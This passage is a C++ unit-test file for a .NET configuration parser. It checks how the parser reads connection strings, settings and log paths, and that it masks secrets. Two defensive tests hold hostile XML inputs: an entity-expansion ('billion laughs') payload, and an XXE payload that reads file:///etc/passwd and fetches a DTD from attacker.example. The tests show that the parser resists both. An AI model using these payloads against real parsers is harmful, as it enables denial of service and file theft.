#include "formats/dotnet_config.hpp"

#include <gtest/gtest.h>

#include <map>
#include <string>
#include <vector>

#include "core/text.hpp"
#include "formats/facts_dump.hpp"
#include "test_support.hpp"

namespace liftshift {
namespace {

using Strings = std::vector<std::string>;

std::string fixture(const char* name) {
  return test::read_text(test::source_dir() / "tests/data/formats" / name);
}

ConfigFacts parse_ok(const std::string& xml, const std::string& path = "web.config") {
  auto r = parse_dotnet_config(xml, path);
  EXPECT_TRUE(r.ok()) << (r.ok() ? "" : r.error().message);
  return r.ok() ? r.value() : ConfigFacts{};
}

std::string parse_error(const std::string& xml, const std::string& path = "web.config") {
  auto r = parse_dotnet_config(xml, path);
  EXPECT_FALSE(r.ok());
  return r.ok() ? "" : r.error().message;
}

// A web.config's system.webServer needs are read from the same document;
// another config file of the same text has none.
TEST(Config, AWebConfigAlsoGivesItsIisModules) {
  const std::string xml =
      "<configuration><system.webServer><rewrite><rules><rule name='r'><action "
      "type='Redirect' url='/x'/></rule></rules></rewrite></system.webServer></configuration>";
  const ConfigFacts web = parse_ok(xml, "Shop/Web.config");
  ASSERT_EQ(web.iis_modules.size(), 1u);
  EXPECT_EQ(web.iis_modules[0].module, "url-rewrite");
  EXPECT_TRUE(parse_ok(xml, "Shop/app.config").iis_modules.empty());
}

TEST(Config, WebConfigConnectionStrings) {
  const ConfigFacts f = parse_ok(fixture("web.config"), "src/Contoso.Web/Web.config");
  EXPECT_EQ(f.path, "src/Contoso.Web/Web.config");
  ASSERT_EQ(f.connection_strings.size(), 3u);
  const auto& orders = f.connection_strings[0];
  EXPECT_EQ(orders.name, "OrdersDb");
  EXPECT_EQ(orders.provider, "System.Data.SqlClient");
  EXPECT_EQ(
      orders.masked,
      R"(Data Source=SQLPROD01\ORDERS;Initial Catalog=Orders;User ID=orders_app;Password=***;MultipleActiveResultSets=True)");
  EXPECT_TRUE(orders.had_secret);
  EXPECT_EQ(orders.server, R"(SQLPROD01\ORDERS)");
  const auto& ef = f.connection_strings[1];
  EXPECT_EQ(ef.name, "ReportingContext");
  EXPECT_EQ(ef.provider, "System.Data.EntityClient");
  EXPECT_EQ(ef.server, "sqlrpt.corp.contoso.com");
  EXPECT_TRUE(ef.had_secret);
  EXPECT_NE(ef.masked.find("password=***;MultipleActiveResultSets=True"), std::string::npos);
  const auto& local = f.connection_strings[2];
  EXPECT_EQ(local.name, "DefaultConnection");
  EXPECT_TRUE(local.local_file);
  EXPECT_TRUE(local.integrated_security);
  EXPECT_FALSE(local.had_secret);
  EXPECT_EQ(local.server, R"((LocalDb)\MSSQLLocalDB)");
  EXPECT_EQ(local.local_file_path, R"(|DataDirectory|\aspnet-Contoso.Web-20190312.mdf)");
}

TEST(Config, WebConfigAppSettingsAreMasked) {
  const ConfigFacts f = parse_ok(fixture("web.config"));
  std::vector<std::pair<std::string, std::string>> got;
  for (const auto& kv : f.app_settings) got.emplace_back(kv.key, kv.value);
  const std::vector<std::pair<std::string, std::string>> want = {
      {"webpages:Version", "3.0.0.0"},
      {"ClientValidationEnabled", "true"},
      {"UploadFolder", R"(D:\ContosoData\Uploads)"},
      {"ArchiveShare", R"(\\fs01.corp.contoso.com\archive$\orders)"},
      {"StorageAccountKey", "***"},
      {"SmtpPassword", "***"},
      {"DirectoryRoot",
       "LDAP://svc_ldap:***@dc01.corp.contoso.com/OU=Staff,DC=corp,DC=contoso,DC=com"},
      {"LegacyDsn", "Driver={SQL Server};Server=legacy01;Uid=sa;Pwd=***;"},
  };
  EXPECT_EQ(got, want);
}

TEST(Config, WebConfigSystemWeb) {
  const ConfigFacts f = parse_ok(fixture("web.config"));
  EXPECT_TRUE(f.has_system_web);
  EXPECT_EQ(f.authentication_mode, "Windows");  // the root one, not the <location> one
  EXPECT_TRUE(f.impersonate);
  EXPECT_EQ(f.session_state_mode, "SQLServer");
  EXPECT_TRUE(f.machine_key_present);
  EXPECT_TRUE(f.machine_key_explicit);
  EXPECT_EQ(f.machine_key_validation, "SHA1");  // the algorithms, for the moved file's template
  EXPECT_EQ(f.machine_key_decryption, "");
  EXPECT_EQ(f.target_framework, ".NETFramework,Version=v4.7.2");
  EXPECT_EQ(f.supported_runtimes, Strings{});
}

// Forms authentication's own user list: names, format and whether a password
// is there, never the password; a <location>'s list is not the site's.
TEST(Config, FormsCredentialsAreReadWithoutTheirPasswords) {
  const ConfigFacts f = parse_ok(
      "<configuration><system.web><authentication mode=\"Forms\">"
      "<forms loginUrl=\"~/Login.aspx\" name=\".ASPXAUTH\">"
      "<credentials passwordFormat=\"Clear\">"
      "<user name=\"admin\" password=\"Tr0ub4dor&amp;3\"/><user name=\"guest\" password=\"\"/>"
      "</credentials></forms></authentication></system.web>"
      "<location path=\"x\"><system.web><authentication><forms><credentials>"
      "<user name=\"other\" password=\"p\"/></credentials></forms></authentication>"
      "</system.web></location></configuration>");
  ASSERT_TRUE(f.forms_credentials.has_value());
  EXPECT_EQ(f.forms_credentials->password_format, "Clear");
  EXPECT_EQ(f.forms_credentials->users, (Strings{"admin", "guest"}));
  EXPECT_TRUE(f.forms_credentials->passwords);
  ASSERT_EQ(f.forms_credentials->forms_attributes.size(), 2u);
  EXPECT_EQ(f.forms_credentials->forms_attributes[0].first, "loginUrl");
  EXPECT_EQ(f.forms_credentials->forms_attributes[0].second, "~/Login.aspx");
  EXPECT_EQ(test::dump(f).find("Tr0ub4dor"), std::string::npos);
  // A <user> anywhere else is no forms user.
  EXPECT_FALSE(parse_ok("<configuration><system.web><credentials><user name=\"a\" password=\"b\"/>"
                        "</credentials></system.web></configuration>")
                   .forms_credentials.has_value());
}

TEST(Config, ServiceBaseAddressesAndClientEndpoints) {
  ConfigFacts f = parse_ok(R"(<configuration><system.serviceModel>
  <services><service name="S"><host><baseAddresses>
    <add baseAddress="net.tcp://localhost:8888/SampleServer" />
  </baseAddresses></host>
  <endpoint address="" binding="netTcpBinding" contract="I" /></service></services>
  <client><endpoint address="net.tcp://srv:8888/SampleServer" binding="netTcpBinding" contract="I" /></client>
</system.serviceModel></configuration>)",
                           "App.config");
  EXPECT_EQ(f.base_addresses, std::vector<std::string>{"net.tcp://localhost:8888/SampleServer"});
  ASSERT_EQ(f.endpoints.size(), 2u);
  EXPECT_FALSE(f.endpoints[0].client);
  EXPECT_TRUE(f.endpoints[1].client);
}

TEST(Config, WebConfigServiceModel) {
  const ConfigFacts f = parse_ok(fixture("web.config"));
  EXPECT_TRUE(f.has_service_model);
  EXPECT_TRUE(f.has_service_host_activation);
  ASSERT_EQ(f.bindings.size(), 3u);
  const auto& msmq = f.bindings[0];
  EXPECT_EQ(msmq.type, "netMsmqBinding");
  EXPECT_EQ(msmq.name, "OrdersQueueBinding");
  EXPECT_EQ(msmq.security_mode, "Transport");
  EXPECT_EQ(msmq.msmq_authentication, "WindowsDomain");
  EXPECT_EQ(msmq.client_credential_type, "");
  EXPECT_TRUE(msmq.use_active_directory);
  EXPECT_TRUE(msmq.exactly_once);
  const auto& tcp = f.bindings[1];
  EXPECT_EQ(tcp.type, "netTcpBinding");
  EXPECT_EQ(tcp.name, "InternalTcp");
  EXPECT_EQ(tcp.security_mode, "Transport");
  EXPECT_EQ(tcp.msmq_authentication, "");
  EXPECT_EQ(tcp.client_credential_type, "Windows");
  EXPECT_FALSE(tcp.use_active_directory);
  const auto& ws = f.bindings[2];
  EXPECT_EQ(ws.type, "wsHttpBinding");
  EXPECT_EQ(ws.security_mode, "Message");
  EXPECT_EQ(ws.client_credential_type, "UserName");

  ASSERT_EQ(f.endpoints.size(), 3u);
  EXPECT_EQ(f.endpoints[0].address, "net.msmq://localhost/private/orders");
  EXPECT_EQ(f.endpoints[0].binding, "netMsmqBinding");
  EXPECT_EQ(f.endpoints[0].binding_configuration, "OrdersQueueBinding");
  EXPECT_EQ(f.endpoints[0].contract, "Contoso.Orders.IOrderQueue");
  EXPECT_EQ(f.endpoints[1].address, "");
  EXPECT_EQ(f.endpoints[1].binding, "netTcpBinding");
  EXPECT_EQ(f.endpoints[1].binding_configuration, "InternalTcp");
  EXPECT_EQ(f.endpoints[1].contract, "Contoso.Web.Services.IInventoryService");
  EXPECT_EQ(f.endpoints[2].address, "mex");
  EXPECT_EQ(f.endpoints[2].binding, "mexTcpBinding");
  EXPECT_EQ(f.endpoints[2].contract, "IMetadataExchange");
}

TEST(Config, WebConfigLogsPathsAndLdap) {
  const ConfigFacts f = parse_ok(fixture("web.config"));
  EXPECT_EQ(f.log_paths,
            (Strings{R"(E:\Logs\Contoso.Web\web.log)", R"(C:\inetpub\logs\Traces.svclog)"}));
  EXPECT_EQ(f.event_log_sources, Strings{"Contoso Web"});
  EXPECT_EQ(f.drive_paths,
            (Strings{R"(D:\ContosoData\Uploads)", R"(\\fs01.corp.contoso.com\archive$\orders)",
                     R"(E:\Logs\Contoso.Web\web.log)"}));
  // Each named by the setting it is in, for the evidence.
  EXPECT_EQ(f.drive_path_settings,
            (std::map<std::string, std::string>{
                {R"(D:\ContosoData\Uploads)", "appSettings 'UploadFolder'"},
                {R"(\\fs01.corp.contoso.com\archive$\orders)", "appSettings 'ArchiveShare'"},
                {R"(E:\Logs\Contoso.Web\web.log)", "appender 'RollingFile' file"}}));
  EXPECT_EQ(
      f.ldap_paths,
      Strings{"LDAP://svc_ldap:***@dc01.corp.contoso.com/OU=Staff,DC=corp,DC=contoso,DC=com"});
  EXPECT_EQ(f.warnings, Strings{});
}

TEST(Config, WebConfigSecretsAppearNowhere) {
  const std::string all = test::dump(parse_ok(fixture("web.config")));
  for (const char* secret :
       {"Sup3r$ecretPw!", "EfInn3rSecret", "q8VbT0pS3cr3tK3yBase64", "MailPa55word", "LdapPa55",
        "OdbcPa55", "SessPa55", "C50B3C89CB21F4F1422FF158A5B42D0E",
        "8A9BE8FD67AF6979E7D20198CFEA50DD"}) {
    EXPECT_EQ(all.find(secret), std::string::npos) << secret;
  }
}

TEST(Config, ExeConfigStartupNlogDiagnosticsAndMsmq) {
  const ConfigFacts f = parse_ok(fixture("OrderProcessor.exe.config"), "OrderProcessor.exe.config");
  EXPECT_EQ(f.supported_runtimes, (Strings{"v4.0", "v2.0.50727"}));
  EXPECT_EQ(f.target_framework, ".NETFramework,Version=v4.6.1");
  EXPECT_FALSE(f.has_system_web);
  EXPECT_EQ(f.session_state_mode, "");
  EXPECT_EQ(f.authentication_mode, "");
  EXPECT_FALSE(f.machine_key_present);
  EXPECT_TRUE(f.connection_strings.empty());
  ASSERT_EQ(f.app_settings.size(), 2u);
  EXPECT_EQ(f.app_settings[0].key, "InboundQueue");
  EXPECT_EQ(f.app_settings[0].value, R"(.\private$\orders_inbound)");
  EXPECT_EQ(f.app_settings[1].value, "15");
  EXPECT_EQ(f.log_paths,
            (Strings{"F:/OrderProcessor/logs/${shortdate}.log", "OrderProcessor.trace.log"}));
  EXPECT_EQ(f.event_log_sources, (Strings{"OrderProcessor", "OrderProcessor Trace"}));
  EXPECT_EQ(f.drive_paths, Strings{"F:/OrderProcessor/logs/${shortdate}.log"});
  EXPECT_EQ(f.drive_path_settings.at("F:/OrderProcessor/logs/${shortdate}.log"),
            "target 'file' fileName");
  // The sections kept in other files are named for the collector to follow.
  EXPECT_TRUE(f.warnings.empty());
  ASSERT_EQ(f.includes.size(), 2u);
  EXPECT_EQ(f.includes[0].section, "connectionStrings");
  EXPECT_EQ(f.includes[0].attribute, "configSource");
  EXPECT_EQ(f.includes[0].file, "connections.config");
  EXPECT_EQ(f.includes[1].section, "appSettings");
  EXPECT_EQ(f.includes[1].attribute, "file");
  EXPECT_EQ(f.includes[1].file, "environment.config");
  EXPECT_TRUE(f.has_service_model);
  EXPECT_FALSE(f.has_service_host_activation);
  ASSERT_EQ(f.bindings.size(), 2u);
  EXPECT_EQ(f.bindings[0].type, "netMsmqBinding");
  EXPECT_EQ(f.bindings[0].name, "AnonymousPrivate");
  EXPECT_EQ(f.bindings[0].security_mode, "None");
  EXPECT_EQ(f.bindings[0].msmq_authentication, "None");
  EXPECT_FALSE(f.bindings[0].use_active_directory);
  EXPECT_FALSE(f.bindings[0].exactly_once);
  EXPECT_EQ(f.bindings[1].type, "customBinding");
  EXPECT_EQ(f.bindings[1].name, "MsmqCustom");
  EXPECT_EQ(f.bindings[1].security_mode, "");
  EXPECT_EQ(f.bindings[1].msmq_authentication, "Certificate");
  EXPECT_TRUE(f.bindings[1].use_active_directory);
  EXPECT_TRUE(f.bindings[1].exactly_once);
  ASSERT_EQ(f.endpoints.size(), 1u);
  EXPECT_EQ(f.endpoints[0].address, "net.msmq://localhost/private/orders_inbound");
  EXPECT_EQ(f.endpoints[0].binding_configuration, "AnonymousPrivate");
}

TEST(Config, NamespacedPrefixedAndLocationElements) {
  const ConfigFacts f = parse_ok(R"(<?xml version="1.0"?>
<configuration xmlns="http://schemas.microsoft.com/.NetConfiguration/v2.0" xmlns:c="urn:x">
  <location path="Reports" allowOverride="false">
    <system.web>
      <authentication mode="Forms"><forms loginUrl="~/Login.aspx" /></authentication>
      <sessionState />
      <machineKey validationKey="AutoGenerate,IsolateApps" decryptionKey="AutoGenerate,IsolateApps" />
      <compilation targetFramework="4.5" />
    </system.web>
  </location>
  <c:appSettings>
    <c:add key="ApiToken" value="tok-123-secret" />
  </c:appSettings>
  <SYSTEM.WEB><identity impersonate="false" /></SYSTEM.WEB>
</configuration>)");
  EXPECT_TRUE(f.has_system_web);
  EXPECT_EQ(f.authentication_mode, "Forms");
  EXPECT_EQ(f.session_state_mode, "InProc");  // present without mode: the ASP.NET default
  EXPECT_FALSE(f.impersonate);
  EXPECT_TRUE(f.machine_key_present);
  EXPECT_FALSE(f.machine_key_explicit);
  EXPECT_EQ(f.target_framework, ".NETFramework,Version=v4.5");
  ASSERT_EQ(f.app_settings.size(), 1u);
  EXPECT_EQ(f.app_settings[0].key, "ApiToken");
  EXPECT_EQ(f.app_settings[0].value, "***");
  EXPECT_EQ(test::dump(f).find("tok-123-secret"), std::string::npos);
}

TEST(Config, RootSystemWebOverridesLocationAndHttpRuntimeWins) {
  const ConfigFacts f = parse_ok(R"(<configuration>
  <location path="Admin"><system.web><authentication mode="Forms" /></system.web></location>
  <system.web>
    <authentication />
    <compilation targetFramework="4.6.1" />
    <httpRuntime targetFramework="4.8" />
  </system.web>
</configuration>)");
  EXPECT_EQ(f.authentication_mode, "Windows");  // element without mode: the default
  EXPECT_EQ(f.target_framework, ".NETFramework,Version=v4.8");
  EXPECT_EQ(f.session_state_mode, "");
}

TEST(Config, ListenersEventLogAndSvcActivation) {
  const ConfigFacts f = parse_ok(R"(<configuration>
  <system.diagnostics>
    <sources><source name="App"><listeners>
      <add name="ev" type="System.Diagnostics.EventLogTraceListener, System" initializeData="Contoso Billing" />
      <add name="vb" type="Microsoft.VisualBasic.Logging.FileLogTraceListener, Microsoft.VisualBasic" customLocation="H:\vblogs" />
      <add name="csv" type="System.Diagnostics.DelimitedListTraceListener" initializeData="trace.csv" />
      <add name="console" type="System.Diagnostics.ConsoleTraceListener" />
    </listeners></source></sources>
  </system.diagnostics>
  <log4net>
    <appender name="f" type="log4net.Appender.FileAppender"><param name="File" value="\\logsrv\logs\billing.log" /></appender>
    <appender name="e" type="log4net.Appender.EventLogAppender" />
    <root><appender-ref ref="f" /><appender-ref ref="e" /></root>
  </log4net>
  <system.webServer><handlers><add name="svc-Integrated" path="*.svc" verb="*" type="System.ServiceModel.Activation.HttpHandler" /></handlers></system.webServer>
</configuration>)");
  EXPECT_EQ(f.event_log_sources, (Strings{"Contoso Billing", "(application name)"}));
  EXPECT_EQ(f.log_paths, (Strings{R"(H:\vblogs)", "trace.csv", R"(\\logsrv\logs\billing.log)"}));
  EXPECT_EQ(f.drive_paths, (Strings{R"(H:\vblogs)", R"(\\logsrv\logs\billing.log)"}));
  EXPECT_TRUE(f.has_service_host_activation);
  EXPECT_FALSE(f.has_service_model);
}

TEST(Config, StandaloneNlogConfig) {
  const ConfigFacts f = parse_ok(R"(<?xml version="1.0" encoding="utf-8" ?>
<nlog xmlns="http://www.nlog-project.org/schemas/NLog.xsd" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
  <targets>
    <target xsi:type="AsyncWrapper" name="async">
      <target xsi:type="File" name="f" fileName="${basedir}/logs/app.log" />
    </target>
    <target xsi:type="EventLog" name="ev" />
  </targets>
</nlog>)",
                                 "NLog.config");
  EXPECT_EQ(f.log_paths, Strings{"${basedir}/logs/app.log"});
  EXPECT_EQ(f.event_log_sources, Strings{"(application name)"});
  EXPECT_EQ(f.drive_paths, Strings{});
}

// With <rules>, NLog writes only through the targets a logger names (a
// wrapper's inner File target through the wrapper); a target of another
// type with a fileName attribute is no log file.
TEST(Config, NlogRulesDecideWhichTargetsWrite) {
  const ConfigFacts f = parse_ok(R"(<?xml version="1.0" encoding="utf-8" ?>
<nlog xmlns="http://www.nlog-project.org/schemas/NLog.xsd" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
  <targets>
    <target xsi:type="AsyncWrapper" name="async">
      <target xsi:type="File" name="inner" fileName="${basedir}/logs/app.log" />
    </target>
    <target xsi:type="File" name="unused" fileName="C:\old\old.log" />
    <target xsi:type="EventLog" name="ev" source="Billing" />
    <target xsi:type="EventLog" name="ev2" source="Unused" />
    <target xsi:type="Mail" name="mail" fileName="not-a-log" />
  </targets>
  <rules>
    <logger name="*" minlevel="Info" writeTo="async, ev" />
    <logger name="Mail.*" writeTo="mail" />
    <!-- <logger name="*" writeTo="unused,ev2" /> -->
  </rules>
</nlog>)",
                                 "NLog.config");
  EXPECT_EQ(f.log_paths, Strings{"${basedir}/logs/app.log"});
  EXPECT_EQ(f.event_log_sources, Strings{"Billing"});
}

TEST(Config, SecretsInTextAttributesAndSettingsAreNotCopied) {
  const ConfigFacts f = parse_ok(R"(<configuration>
  <system.web>
    <identity impersonate="true" userName="CONTOSO\svc_web" password="Impers0nate!" />
  </system.web>
  <applicationSettings>
    <Contoso.Properties.Settings>
      <setting name="ServicePassword" serializeAs="String"><value>X:\not-a-path-Pw9</value></setting>
      <setting name="DropFolder" serializeAs="String"><value>Y:\drop</value></setting>
    </Contoso.Properties.Settings>
  </applicationSettings>
  <appSettings>
    <add key="ReportKey" value="K:\keys\report.pfx" />
    <add key="Feed" value="https://feed.contoso.com/?user=a&amp;password=Url5ecret" />
  </appSettings>
</configuration>)");
  EXPECT_TRUE(f.impersonate);
  EXPECT_EQ(f.drive_paths, Strings{R"(Y:\drop)"});
  ASSERT_EQ(f.app_settings.size(), 2u);
  EXPECT_EQ(f.app_settings[0].value, "***");
  EXPECT_EQ(f.app_settings[1].value, "https://feed.contoso.com/?user=a&password=***");
  const std::string all = test::dump(f);
  for (const char* secret : {"Impers0nate!", "not-a-path-Pw9", "report.pfx", "Url5ecret"}) {
    EXPECT_EQ(all.find(secret), std::string::npos) << secret;
  }
}

TEST(Config, Utf16WithBomIsRead) {
  const std::string xml =
      "<?xml version=\"1.0\" encoding=\"utf-16\"?>\r\n<configuration><appSettings><add "
      "key=\"Share\" "
      "value=\"\\\\nas01\\pub\" /></appSettings></configuration>";
  std::string u16 = "\xFF\xFE";
  for (char c : xml) {
    u16.push_back(c);
    u16.push_back('\0');
  }
  const ConfigFacts f = parse_ok(u16);
  ASSERT_EQ(f.app_settings.size(), 1u);
  EXPECT_EQ(f.app_settings[0].value, R"(\\nas01\pub)");
  EXPECT_EQ(f.drive_paths, Strings{R"(\\nas01\pub)"});
}

TEST(Config, MalformedTruncated) {
  EXPECT_EQ(parse_error("<configuration>\n  <appSettings>\n    <add key=\"a\" value=\"b\" />\n"),
            "web.config: XML error at line 3: Start-end tags mismatch");
}

TEST(Config, MalformedMismatchedTags) {
  EXPECT_EQ(
      parse_error("<configuration>\r\n  <appSettings>\r\n  </appSetting>\r\n</configuration>\r\n",
                  "src/App/Web.config"),
      "src/App/Web.config: XML error at line 3: Start-end tags mismatch");
  EXPECT_EQ(parse_error("<configuration>\n<add key=\"a\" value=\"b\n"),
            "web.config: XML error at line 2: Error parsing element attribute");
  EXPECT_EQ(parse_error(""), "web.config: XML error at line 1: No document element found");
  EXPECT_EQ(parse_error("\xEF\xBB\xBFnot xml at all"),
            "web.config: XML error at line 1: No document element found");
}

TEST(Config, DeepNestingTenThousandIsWalkedWithoutRecursion) {
  std::string xml = "<configuration>";
  for (int i = 0; i < 10000; ++i) xml += "<a>";
  xml += "<appSettings><add key=\"deep\" value=\"Z:\\bottom\" /></appSettings>";
  for (int i = 0; i < 10000; ++i) xml += "</a>";
  xml += "</configuration>";
  const ConfigFacts f = parse_ok(xml);
  ASSERT_EQ(f.app_settings.size(), 1u);
  EXPECT_EQ(f.app_settings[0].key, "deep");
  EXPECT_EQ(f.drive_paths, Strings{R"(Z:\bottom)"});
}

TEST(Config, DeepNestingNineHundredThousandAndUnclosed) {
  std::string xml;
  for (int i = 0; i < 900000; ++i) xml += "<a>";
  for (int i = 0; i < 900000; ++i) xml += "</a>";
  const ConfigFacts f = parse_ok(xml);
  EXPECT_TRUE(f.app_settings.empty());
  std::string open = "<configuration>\n";
  for (int i = 0; i < 10000; ++i) open += "<a>";
  EXPECT_EQ(parse_error(open), "web.config: XML error at line 2: Start-end tags mismatch");
}

TEST(Config, BillionLaughsIsNotExpanded) {
  const std::string xml = R"(<?xml version="1.0"?>
<!DOCTYPE configuration [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<configuration><appSettings><add key="lolz" value="&lol9;" /></appSettings></configuration>)";
  const ConfigFacts f = parse_ok(xml);
  ASSERT_EQ(f.app_settings.size(), 1u);
  EXPECT_EQ(f.app_settings[0].value, "&lol9;");  // left as written, never expanded
  EXPECT_LT(test::dump(f).size(), 200u);
}

TEST(Config, ExternalEntityIsNotFetched) {
  const std::string xml = R"(<?xml version="1.0"?>
<!DOCTYPE configuration [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
  <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
  %remote;
]>
<configuration><appSettings><add key="x" value="&xxe;" /></appSettings>
<connectionStrings><add name="c" connectionString="Server=&xxe;;Password=p4ss" /></connectionStrings></configuration>)";
  const ConfigFacts f = parse_ok(xml);
  ASSERT_EQ(f.app_settings.size(), 1u);
  EXPECT_EQ(f.app_settings[0].value, "&xxe;");
  ASSERT_EQ(f.connection_strings.size(), 1u);
  EXPECT_EQ(f.connection_strings[0].server, "&xxe");  // ';' ends the value: not expanded
  EXPECT_EQ(f.connection_strings[0].masked, "Server=&xxe;;Password=***");
  EXPECT_EQ(test::dump(f).find("root:"), std::string::npos);
}

TEST(Config, SizeAndMarkupCaps) {
  const std::string big(64u * 1024u * 1024u + 1u, ' ');
  EXPECT_EQ(parse_error(big, "huge.config"),
            "huge.config: file too large for an XML document (67108865 bytes, limit 64 MiB)");
  std::string tags;
  for (int i = 0; i < 2000001; ++i) tags += "<a/>";
  EXPECT_EQ(parse_error(tags, "tags.config"),
            "tags.config: too much markup for a configuration file (more than 2000000 tags)");
}

}  // namespace
TEST(Config, Log4netAppendersCountOnlyWhenReferenced) {
  const ConfigFacts f = parse_ok(R"(<configuration><log4net>
    <appender name="file" type="log4net.Appender.RollingFileAppender"><file value="App_Data/Logs/app.log" /></appender>
    <appender name="ev" type="log4net.Appender.EventLogAppender" />
    <root>
      <appender-ref ref="file" />
      <!-- <appender-ref ref="ev" /> -->
    </root>
  </log4net></configuration>)");
  EXPECT_EQ(f.log_paths, (Strings{"App_Data/Logs/app.log"}));
  EXPECT_TRUE(f.event_log_sources.empty());
}

TEST(Config, PagesSessionStateAndSecretShapedSettings) {
  const ConfigFacts f = parse_ok(R"(<configuration>
  <appSettings>
    <add key="UseShortcutKeys" value="false" />
    <add key="Reporting" value="Server=db01;Database=r;User ID=rep;Password=S3cret!" />
    <add key="Flags" value="9f1c2b7a4e6d8f0a1b3c5d7e9f1a2b3c4d5e6f7a" />
    <add key="Title" value="A long sentence that is not a key at all, really" />
  </appSettings>
  <system.web><pages enableSessionState="false" /></system.web>
</configuration>)");
  EXPECT_EQ(f.pages_session_state, "false");
  ASSERT_EQ(f.app_settings.size(), 4u);
  EXPECT_FALSE(f.app_settings[0].secret_value);
  EXPECT_TRUE(f.app_settings[1].secret_value);
  EXPECT_EQ(f.app_settings[1].value.find("S3cret"), std::string::npos);
  EXPECT_TRUE(f.app_settings[2].secret_value);
  EXPECT_EQ(f.app_settings[2].value, "***");
  EXPECT_FALSE(f.app_settings[3].secret_value);
}

}  // namespace liftshift

namespace liftshift {
namespace {

TEST(Config, ElmahsXmlErrorLogFolderIsALogFolder) {
  const ConfigFacts f = parse_ok(R"(<configuration><elmah>
    <errorLog type="Elmah.XmlFileErrorLog, Elmah" logPath="~/App_Data/Errors/" />
  </elmah></configuration>)");
  EXPECT_EQ(f.log_paths, Strings{"~/App_Data/Errors\\error-*.xml"});
  const ConfigFacts sql = parse_ok(R"(<configuration><elmah>
    <errorLog type="Elmah.SqlErrorLog, Elmah" connectionStringName="Elmah" />
  </elmah></configuration>)");
  EXPECT_TRUE(sql.log_paths.empty());
}

TEST(Config, IncludesOfEverySectionAndNLog) {
  const ConfigFacts f = parse_ok(R"(<configuration>
    <log4net configSource="Config\log4net.config" />
    <system.serviceModel><bindings configSource="bindings.config" /></system.serviceModel>
    <nlog><include file="${basedir}/targets.config" /></nlog>
    <appSettings file="  " />
  </configuration>)");
  ASSERT_EQ(f.includes.size(), 3u);
  EXPECT_EQ(f.includes[0].section, "log4net");
  EXPECT_EQ(f.includes[0].file, "Config\\log4net.config");
  EXPECT_EQ(f.includes[1].section, "system.serviceModel/bindings") << "with its group";
  EXPECT_EQ(f.includes[2].section, "nlog include");
  EXPECT_EQ(f.includes[2].file, "${basedir}/targets.config");
}

TEST(Config, ATransformNamesWhatItChangesAndCarriesTheReleaseValues) {
  const ConfigFacts f =
      parse_ok(R"X(<configuration xmlns:xdt="http://schemas.microsoft.com/XML-Document-Transform">
  <connectionStrings>
    <add name="Orders" connectionString="Server=sql-prod;Database=Orders;User ID=app;Password=Rel-Pw-1"
         xdt:Transform="SetAttributes" xdt:Locator="Match(name)" />
    <add name="Legacy" xdt:Transform="Remove" xdt:Locator="Match(name)" />
  </connectionStrings>
  <appSettings>
    <add key="Drop" value="E:\Drop" xdt:Transform="Replace" xdt:Locator="Match(key)" />
  </appSettings>
  <system.web><compilation xdt:Transform="RemoveAttributes(debug)" /></system.web>
</configuration>)X",
               "Web.Release.config");
  ASSERT_EQ(f.transform_changes.size(), 4u);
  EXPECT_EQ(f.transform_changes[0].section, "connectionStrings");
  EXPECT_EQ(f.transform_changes[0].name, "Orders");
  EXPECT_EQ(f.transform_changes[0].transform, "SetAttributes");
  EXPECT_EQ(f.transform_changes[1].name, "Legacy");
  EXPECT_EQ(f.transform_changes[1].transform, "Remove");
  EXPECT_EQ(f.transform_changes[2].section, "appSettings");
  EXPECT_EQ(f.transform_changes[3].section, "compilation");
  // The release values are read; a removed entry has none.
  ASSERT_EQ(f.connection_strings.size(), 1u);
  EXPECT_TRUE(f.connection_strings[0].had_secret);
  EXPECT_EQ(test::dump(f).find("Rel-Pw-1"), std::string::npos);
  EXPECT_EQ(f.drive_paths, Strings{"E:\\Drop"});
}

// Each whole value on another drive is kept with its place in the file, so
// the copy can be rewritten there; C: paths, paths inside a value, secrets
// and values inside <location> are not.
TEST(DotnetConfig, DrivePathsAreKeptWithTheirPlace) {
  auto f = parse_ok(
      "<configuration>"
      "<appSettings><add key=\"Drop\" value=\"E:\\Drop\"/><add key=\"Local\" value=\"C:\\x\"/>"
      "<add key=\"ApiKey\" value=\"D:\\looks-like-a-path\"/>"
      "<add key=\"Conn\" value=\"Data Source=D:\\db.sdf\"/></appSettings>"
      "<location path=\"admin\"><appSettings><add key=\"In\" value=\"D:\\In\"/></appSettings>"
      "</location>"
      "<applicationSettings><App.Properties.Settings><setting name=\"Root\" "
      "serializeAs=\"String\"><value>D:\\Data\\App</value></setting></App.Properties.Settings>"
      "</applicationSettings>"
      "<log4net><appender name=\"F\" type=\"log4net.Appender.FileAppender\">"
      "<param name=\"File\" value=\"D:\\Logs\\f.log\"/></appender>"
      "<root><appender-ref ref=\"F\"/></root></log4net>"
      "<nlog><targets><target name=\"w\" type=\"AsyncWrapper\"><target name=\"t\" type=\"File\" "
      "fileName=\"F:/Logs/${shortdate}.log\"/></target></targets>"
      "<rules><logger name=\"*\" writeTo=\"w\"/></rules></nlog>"
      "<elmah><errorLog type=\"Elmah.XmlFileErrorLog, Elmah\" logPath=\"D:\\Elmah\"/></elmah>"
      "</configuration>");
  std::vector<std::string> got;
  for (const auto& p : f.path_settings)
